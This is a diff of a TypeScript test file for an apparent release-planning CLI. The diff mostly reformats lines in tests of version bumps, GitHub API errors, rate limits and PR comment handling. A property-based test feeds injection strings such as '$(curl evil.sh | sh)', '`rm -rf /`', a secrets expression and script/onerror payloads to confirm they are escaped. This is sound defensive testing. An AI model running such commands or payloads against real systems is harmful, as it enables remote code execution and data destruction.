@@ -20,9 +20,19 @@ afterEach(() => {
   expect(github.violations.splice(0)).toEqual([]);
 });
 
-const githubEnv = () => ({ GITHUB_ACTIONS: 'true', GITHUB_TOKEN: FAKE_GITHUB_TOKEN, GITHUB_API_URL: github.url, GITHUB_REPOSITORY: 'acme/hello-mcp', MCP_RELEASE_GITHUB_PACING: 'none' });
+const githubEnv = () => ({
+  GITHUB_ACTIONS: 'true',
+  GITHUB_TOKEN: FAKE_GITHUB_TOKEN,
+  GITHUB_API_URL: github.url,
+  GITHUB_REPOSITORY: 'acme/hello-mcp',
+  MCP_RELEASE_GITHUB_PACING: 'none',
+});
 
-async function plan(dir: string, args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; report: Report; stderr: string }> {
+async function plan(
+  dir: string,
+  args: string[],
+  env: Record<string, string> = {},
+): Promise<{ code: number | null; report: Report; stderr: string }> {
   const run = await runNode(CLI, ['plan', dir, '--registry', registry.url, ...args, '--json'], { env });
   return { code: run.code, report: JSON.parse(run.stdout || '{}') as Report, stderr: run.stderr };
 }
@@ -39,7 +49,16 @@ describe('plan: labels decide the bump', () => {
     const { dir } = await repo('1.2.0');
     const { code, report } = await plan(dir, ['--labels', 'documentation,release:minor']);
     expect(code).toBe(0);
-    expect(report.outputs).toMatchObject({ release: 'true', 'current-version': '1.2.0', 'next-version': '1.3.0', bump: 'minor', source: 'labels', 'staging-tag': 'next', 'final-tag': 'latest', 'git-tag': 'v1.3.0' });
+    expect(report.outputs).toMatchObject({
+      release: 'true',
+      'current-version': '1.2.0',
+      'next-version': '1.3.0',
+      bump: 'minor',
+      source: 'labels',
+      'staging-tag': 'next',
+      'final-tag': 'latest',
+      'git-tag': 'v1.3.0',
+    });
   });
 
   it('no release label and release:skip: no release, exit 0', async () => {
@@ -56,7 +75,9 @@ describe('plan: labels decide the bump', () => {
     const { dir } = await repo();
     const { code, report } = await plan(dir, ['--labels', 'release:minor,release:major']);
     expect(code).toBe(1);
-    expect(report.findings.map((f) => [f.rule, f.message])).toEqual([['plan/conflicting-labels', 'The change has 2 release labels (release:minor, release:major): keep exactly one']]);
+    expect(report.findings.map((f) => [f.rule, f.message])).toEqual([
+      ['plan/conflicting-labels', 'The change has 2 release labels (release:minor, release:major): keep exactly one'],
+    ]);
     expect(report.outputs.release).toBe('false');
   });
 
@@ -81,19 +102,39 @@ describe('plan: labels decide the bump', () => {
       const copy = await exampleRepo({ name, version });
       const published = await runNode(CLI, ['pack', copy.dir, '--out', path.join(copy.dir, 'out'), '--json']);
       const tarball = (JSON.parse(published.stdout) as Report).outputs.tarball as string;
-      expect((await runNode(CLI, ['publish', tarball, '--registry', registry.url], { env: { NODE_AUTH_TOKEN: registry.token } })).code).toBe(0);
+      expect(
+        (
+          await runNode(CLI, ['publish', tarball, '--registry', registry.url], {
+            env: { NODE_AUTH_TOKEN: registry.token },
+          })
+        ).code,
+      ).toBe(0);
     }
     expect((await plan(dir, ['--labels', 'release:patch'])).report.outputs['next-version']).toBe('1.0.3');
-    expect((await plan(dir, ['--version', '1.5.0'])).report.outputs).toMatchObject({ 'next-version': '1.5.0', source: 'version' });
+    expect((await plan(dir, ['--version', '1.5.0'])).report.outputs).toMatchObject({
+      'next-version': '1.5.0',
+      source: 'version',
+    });
     const taken = await runNode(CLI, ['plan', dir, '--registry', registry.url, '--version', '1.0.2']);
     expect(taken.code).toBe(2);
     expect(taken.stderr).toContain('plan: --version: 1.0.2 is already on the registry');
-    expect((await plan(dir, ['--bump', 'major'])).report.outputs).toMatchObject({ 'next-version': '2.0.0', source: 'bump' });
+    expect((await plan(dir, ['--bump', 'major'])).report.outputs).toMatchObject({
+      'next-version': '2.0.0',
+      source: 'bump',
+    });
   });
 
   it('a registry that cannot be read is an error, not a guess', async () => {
     const { dir } = await repo();
-    const run = await runNode(CLI, ['plan', dir, '--registry', 'http://127.0.0.1:9/', '--labels', 'release:patch', '--json']);
+    const run = await runNode(CLI, [
+      'plan',
+      dir,
+      '--registry',
+      'http://127.0.0.1:9/',
+      '--labels',
+      'release:patch',
+      '--json',
+    ]);
     expect(run.code).toBe(1);
     expect((JSON.parse(run.stdout) as Report).findings.map((f) => f.rule)).toEqual(['plan/registry-unreachable']);
   });
@@ -111,7 +152,12 @@ describe('plan: conventional commits when there is no PR', () => {
     r.git('tag', 'v1.0.0');
     for (const message of messages) await r.commit(message);
     const { report } = await plan(r.dir, []);
-    expect(report.outputs).toMatchObject({ release: 'true', source: 'conventional-commits', bump, 'next-version': next });
+    expect(report.outputs).toMatchObject({
+      release: 'true',
+      source: 'conventional-commits',
+      bump,
+      'next-version': next,
+    });
     expect(report.notes.join('\n')).toMatch(/GitHub: not asked/);
   });
 
@@ -130,7 +176,13 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
   it('the merged PR of the pushed commit decides, before conventional commits', async () => {
     const r = await repo('1.0.0');
     const sha = await r.commit('fix: would be a patch (#21)');
-    github.pulls.set(21, { number: 21, title: 'Add search', author: 'alice', labels: ['release:minor'], mergeCommitSha: sha });
+    github.pulls.set(21, {
+      number: 21,
+      title: 'Add search',
+      author: 'alice',
+      labels: ['release:minor'],
+      mergeCommitSha: sha,
+    });
     github.commitPulls.set(sha, [21]);
     const { report } = await plan(r.dir, [], { ...githubEnv(), GITHUB_SHA: sha });
     expect(report.outputs).toMatchObject({ source: 'merged-pr', pr: '21', bump: 'minor', 'next-version': '1.1.0' });
@@ -146,7 +198,12 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
   it('the sticky comment is created once, then updated in place; untrusted text is escaped', async () => {
     const r = await repo('1.0.0');
     const sha = await r.commit('feat: search');
-    github.pulls.set(31, { number: 31, title: 'Add <script>alert(1)</script> search for @acme/owners', author: 'bob', labels: ['release:minor'] });
+    github.pulls.set(31, {
+      number: 31,
+      title: 'Add <script>alert(1)</script> search for @acme/owners',
+      author: 'bob',
+      labels: ['release:minor'],
+    });
     github.checkRuns.set(sha, [
       { name: 'test', status: 'completed', conclusion: 'success' },
       { name: 'lint', status: 'in_progress', conclusion: null },
@@ -192,7 +249,12 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
     const bots = () => github.comments.filter((c) => c.issue === 71 && c.author === 'github-actions[bot]');
     expect(bots()).toHaveLength(1);
     expect(bots()[0]?.body.startsWith(marker)).toBe(true);
-    expect(first.report.notes).toEqual(expect.arrayContaining(['comment on PR #71: created', 'comment on PR #71: a comment with the plan\'s marker by mallory was left alone (not written by this token, so not ours to edit)']));
+    expect(first.report.notes).toEqual(
+      expect.arrayContaining([
+        'comment on PR #71: created',
+        "comment on PR #71: a comment with the plan's marker by mallory was left alone (not written by this token, so not ours to edit)",
+      ]),
+    );
     // The next run edits the bot's own comment, still not Mallory's.
     const second = await plan(r.dir, ['--pr', '71', '--comment'], env);
     expect(second.report.notes).toContain('comment on PR #71: unchanged');
@@ -200,29 +262,55 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
 
     // A user's token (GET /user answers its login): the bot's comment is not that user's either.
     const userToken = 'ghp_h16usertoken000000000000000000000000';
-    github.tokens.set(userToken, { login: 'release-manager', kind: 'user', permissions: { 'pull-requests': 'write', issues: 'write', contents: 'read', checks: 'read' } });
+    github.tokens.set(userToken, {
+      login: 'release-manager',
+      kind: 'user',
+      permissions: { 'pull-requests': 'write', issues: 'write', contents: 'read', checks: 'read' },
+    });
     const asUser = await plan(r.dir, ['--pr', '71', '--comment'], { ...env, GITHUB_TOKEN: userToken });
-    expect(asUser.report.notes).toEqual(expect.arrayContaining(['comment on PR #71: created', 'comment on PR #71: a comment with the plan\'s marker by mallory, github-actions[bot] was left alone (not written by this token, so not ours to edit)']));
-    expect(github.comments.filter((c) => c.issue === 71).map((c) => c.author)).toEqual(['mallory', 'github-actions[bot]', 'release-manager']);
-    expect(github.requests.slice(requestsBefore).filter((q) => q.path === '/user').map((q) => q.status)).toEqual([403, 403, 200]);
+    expect(asUser.report.notes).toEqual(
+      expect.arrayContaining([
+        'comment on PR #71: created',
+        "comment on PR #71: a comment with the plan's marker by mallory, github-actions[bot] was left alone (not written by this token, so not ours to edit)",
+      ]),
+    );
+    expect(github.comments.filter((c) => c.issue === 71).map((c) => c.author)).toEqual([
+      'mallory',
+      'github-actions[bot]',
+      'release-manager',
+    ]);
+    expect(
+      github.requests
+        .slice(requestsBefore)
+        .filter((q) => q.path === '/user')
+        .map((q) => q.status),
+    ).toEqual([403, 403, 200]);
   });
 
   it('a PR with two release labels fails the check and names both', async () => {
-
     const { dir } = await repo();
     github.pulls.set(41, { number: 41, title: 'x', author: 'dave', labels: ['release:patch', 'release:minor'] });
     const { code, report } = await plan(dir, ['--pr', '41'], githubEnv());
     expect(code).toBe(1);
-    expect(report.findings[0]?.message).toBe('PR #41 has 2 release labels (release:patch, release:minor): keep exactly one');
+    expect(report.findings[0]?.message).toBe(
+      'PR #41 has 2 release labels (release:patch, release:minor): keep exactly one',
+    );
   });
 
   it('403: the message names the permission; 404: says what was not found', async () => {
     const { dir } = await repo();
     github.pulls.set(51, { number: 51, title: 'x', author: 'erin', labels: ['release:patch'] });
-    github.fail({ method: 'GET', path: /\/issues\/51$/, status: 403, body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' } });
+    github.fail({
+      method: 'GET',
+      path: /\/issues\/51$/,
+      status: 403,
+      body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' },
+    });
     const forbidden = await plan(dir, ['--pr', '51'], githubEnv());
     expect(forbidden.code).toBe(1);
-    expect(forbidden.report.findings[0]?.message).toBe('reading PR #51: the token may not do this (403 Resource not accessible by integration); the job needs `permissions: pull-requests: read` (and an organisation or ruleset that allows it)');
+    expect(forbidden.report.findings[0]?.message).toBe(
+      'reading PR #51: the token may not do this (403 Resource not accessible by integration); the job needs `permissions: pull-requests: read` (and an organisation or ruleset that allows it)',
+    );
     const missing = await plan(dir, ['--pr', '999'], githubEnv());
     expect(missing.report.findings[0]?.message).toMatch(/^reading PR #999: not found \(404\)/);
     expect(forbidden.stderr + JSON.stringify(forbidden.report)).not.toContain(FAKE_GITHUB_TOKEN);
@@ -231,13 +319,36 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
   it('secondary rate limit (403 + retry-after) and 429 are waited out and retried', async () => {
     const { dir } = await repo();
     github.pulls.set(61, { number: 61, title: 'x', author: 'finn', labels: ['release:patch'] });
-    github.fail({ method: 'GET', path: /\/issues\/61$/, status: 403, headers: { 'retry-after': '1' }, body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.', documentation_url: 'https://docs.github.com/rest' } });
-    github.fail({ method: 'GET', path: /\/issues\/61$/, status: 429, headers: { 'retry-after': '1', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 1) } });
+    github.fail({
+      method: 'GET',
+      path: /\/issues\/61$/,
+      status: 403,
+      headers: { 'retry-after': '1' },
+      body: {
+        message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.',
+        documentation_url: 'https://docs.github.com/rest',
+      },
+    });
+    github.fail({
+      method: 'GET',
+      path: /\/issues\/61$/,
+      status: 429,
+      headers: {
+        'retry-after': '1',
+        'x-ratelimit-remaining': '0',
+        'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 1),
+      },
+    });
     const before = github.requests.filter((r) => r.path.endsWith('/issues/61')).length;
     const { code, report } = await plan(dir, ['--pr', '61'], githubEnv());
     expect(code, JSON.stringify(report.findings)).toBe(0);
     expect(report.outputs['next-version']).toBe('1.0.1');
-    expect(github.requests.filter((r) => r.path.endsWith('/issues/61')).map((r) => r.status).slice(before)).toEqual([403, 429, 200]);
+    expect(
+      github.requests
+        .filter((r) => r.path.endsWith('/issues/61'))
+        .map((r) => r.status)
+        .slice(before),
+    ).toEqual([403, 429, 200]);
   });
 });
 
@@ -248,26 +359,58 @@ describe('plan: generated PR titles, bodies, labels and authors (fast-check)', (
     const sha = await r.commit('feat: generated');
     const env = { ...githubEnv(), GITHUB_SHA: sha };
     const nasty = fc.oneof(
-      fc.constantFrom('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '${{ secrets.NPM_TOKEN }}', '$(curl evil.sh | sh)', '`rm -rf /`', '[click](javascript:alert(1))', '<!-- mcp-release-kit:plan:x -->', '| a | b |', '\u202e\u0000', '@everyone #1'),
+      fc.constantFrom(
+        '<script>alert(1)</script>',
+        '<img src=x onerror=alert(1)>',
+        '${{ secrets.NPM_TOKEN }}',
+        '$(curl evil.sh | sh)',
+        '`rm -rf /`',
+        '[click](javascript:alert(1))',
+        '<!-- mcp-release-kit:plan:x -->',
+        '| a | b |',
+        '\u202e\u0000',
+        '@everyone #1',
+      ),
       fc.string({ maxLength: 80 }),
       fc.constant('x'.repeat(1024 * 1024)),
     );
     let number = 500;
     await fc.assert(
-      fc.asyncProperty(nasty, nasty, fc.array(fc.oneof(fc.constantFrom('release:minor', 'release:patch', 'release:skip'), nasty.map((s) => s.slice(0, 50))), { maxLength: 3 }), async (title, body, labels) => {
-        number += 1;
-        github.pulls.set(number, { number, title, body, author: 'mallory', labels: [...new Set(labels)].filter(Boolean) });
-        const run = await runNode(CLI, ['plan', r.dir, '--registry', registry.url, '--pr', String(number), '--comment', '--json'], { env });
-        expect([0, 1]).toContain(run.code);
-        expect(run.stdout + run.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
-        const comments = github.comments.filter((c) => c.issue === number);
-        expect(comments.length).toBeLessThanOrEqual(1);
-        for (const c of comments) {
-          expect(c.body).not.toMatch(/<script|<img|<!-- mcp-release-kit:plan:x/i);
-          // GitHub refuses comment bodies over 65,536 characters.
-          expect(c.body.length).toBeLessThanOrEqual(65_536);
-        }
-      }),
+      fc.asyncProperty(
+        nasty,
+        nasty,
+        fc.array(
+          fc.oneof(
+            fc.constantFrom('release:minor', 'release:patch', 'release:skip'),
+            nasty.map((s) => s.slice(0, 50)),
+          ),
+          { maxLength: 3 },
+        ),
+        async (title, body, labels) => {
+          number += 1;
+          github.pulls.set(number, {
+            number,
+            title,
+            body,
+            author: 'mallory',
+            labels: [...new Set(labels)].filter(Boolean),
+          });
+          const run = await runNode(
+            CLI,
+            ['plan', r.dir, '--registry', registry.url, '--pr', String(number), '--comment', '--json'],
+            { env },
+          );
+          expect([0, 1]).toContain(run.code);
+          expect(run.stdout + run.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
+          const comments = github.comments.filter((c) => c.issue === number);
+          expect(comments.length).toBeLessThanOrEqual(1);
+          for (const c of comments) {
+            expect(c.body).not.toMatch(/<script|<img|<!-- mcp-release-kit:plan:x/i);
+            // GitHub refuses comment bodies over 65,536 characters.
+            expect(c.body.length).toBeLessThanOrEqual(65_536);
+          }
+        },
+      ),
       { numRuns: 10 },
     );
   }, 300_000);
